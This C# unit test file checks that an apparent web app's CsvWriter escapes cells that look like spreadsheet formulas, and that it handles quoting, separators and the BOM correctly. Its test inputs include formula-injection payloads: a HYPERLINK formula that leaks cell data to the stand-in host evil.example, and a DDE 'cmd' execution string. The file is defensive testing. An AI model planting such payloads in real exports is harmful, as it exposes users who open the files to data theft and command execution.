using System.Text;
using IdeaHub.Web.Platform;

namespace IdeaHub.Tests.Hardening;

/// <summary>#11.15: every CSV the app writes goes through Platform.CsvWriter, which never writes a live formula.</summary>
public sealed class CsvWriterTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?d=\"&B3,\"Klik detail\")")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public void A_text_cell_that_starts_like_a_formula_is_written_as_text(string title)
    {
        var text = CsvWriter.WriteText(["title", "score"], [[title, 1.5m]]);
        var cell = text.Split("\r\n")[1];
        Assert.StartsWith("\"'", cell);
        Assert.EndsWith(",1.5", cell);
    }

    [Fact]
    public void Numbers_plain_text_quotes_separator_and_bom_follow_the_format()
    {
        var machine = CsvWriter.Write(["a", "b", "c"], [[-1.25m, "Akta \"Terbit\", cepat", null]]);
        Assert.Equal(Encoding.UTF8.GetPreamble(), machine[..3]);
        Assert.Equal("a,b,c\r\n-1.25,\"Akta \"\"Terbit\"\", cepat\",\r\n", Encoding.UTF8.GetString(machine[3..]));

        var sheet = Encoding.UTF8.GetString(CsvWriter.Write(["a", "b"], [["x;y", 2]], CsvFormat.Spreadsheet)).TrimStart('\uFEFF');
        Assert.Equal("a;b\r\n\"x;y\";2\r\n", sheet);
    }
}
